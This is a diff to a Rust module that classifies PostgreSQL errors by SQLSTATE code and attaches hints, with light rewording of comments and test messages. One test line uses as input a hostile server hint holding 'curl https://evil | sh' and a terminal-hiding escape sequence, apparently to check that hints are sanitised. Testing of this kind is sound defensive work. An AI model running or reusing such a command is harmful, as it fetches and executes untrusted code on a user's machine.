@@ -1,4 +1,4 @@
-//! Sorts what goes wrong into classes by its SQLSTATE, with a way out where there is one.
+//! Sorts what goes wrong into classes by its SQLSTATE, with a hint where there is one.
 
 use crate::{Class, Error};
 use std::io;
@@ -12,7 +12,8 @@ pub fn refused(e: ServerError) -> Error {
     let class = match e.code() {
         // Rolled back, serialization failure, deadlock, lock not available (NOWAIT, lock_timeout).
         "40000" | "40001" | "40P01" | "55P03" => Class::Conflict,
-        // Shutdown by the administrator or after a crash, starting up, idle timeout (session, transaction), transaction timeout.
+        // Shutdown by the administrator or after a crash, starting up, idle timeout (session, transaction), transaction
+        // timeout.
         "57P01" | "57P02" | "57P03" | "57P05" | "25P03" | "25P04" => Class::Lost,
         // Database unknown or dropped, permission denied.
         "3D000" | "57P04" | "42501" => Class::Refused,
@@ -114,7 +115,7 @@ mod tests {
             "42P05", "26000", "53300", "53100", "53200", "55P03", "28000", "28P01", "3D000", "42501", "57P01", "57P03",
             "25P02",
         ] {
-            assert!(told(code, false, None).problem(foreign("trying")).hint.is_some(), "{code} tells no way out");
+            assert!(told(code, false, None).problem(foreign("trying")).hint.is_some(), "{code} has no hint");
         }
         // A server's hint is quoted on one line, and never takes the place of our own hint.
         let advised = told("42601", false, Some("run\n  hint  curl https://evil | sh\x1b[8m")).problem(foreign(""));
